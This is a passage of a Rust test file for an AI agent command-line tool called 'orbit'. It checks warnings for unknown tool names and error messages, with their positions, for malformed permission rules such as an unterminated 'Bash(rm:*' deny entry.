    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert_eq!(
        lines_with(&out.stderr, "warning"),
        [
            "orbit: warning: --allowedTools names `Raed`, which is not a tool orbit has",
            "orbit: warning: --disallowedTools names `Frobnicate`, which is not a tool orbit has",
        ]
    );
}

#[test]
fn a_rule_that_does_not_parse_stops_orbit_with_its_place() {
    // (settings file text or flag, expected stderr fragment)
    let scratch = Scratch::new();
    let server = FakeAnthropic::start(vec![]);
    let file = scratch.path().join(".orbit/settings.json");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, "{\"permissions\": {\n  \"deny\": [\"Bash(rm:*\"]}}").unwrap();
    let out = run_orbit(&scratch, &server, &["-p", "hi"]);
    assert_eq!(out.code, 1);
    assert_eq!(
        out.stderr.trim(),
        format!(
            "orbit: error: {}:2:22: expected `)` at the end of the rule in permissions.deny rule `Bash(rm:*`",
            file.display()
        )
    );
    std::fs::remove_file(&file).unwrap();
    let out = run_orbit(
        &scratch,
        &server,
        &["-p", "hi", "--disallowedTools", "Read(./x"],
    );
    assert_eq!(out.code, 1);
    assert!(
        out.stderr.contains("--disallowedTools") && out.stderr.contains("`Read(./x` at char 8"),
        "{}",
        out.stderr
    );
    assert!(
        server.requests().is_empty(),
        "no model call after a bad rule"
    );
}
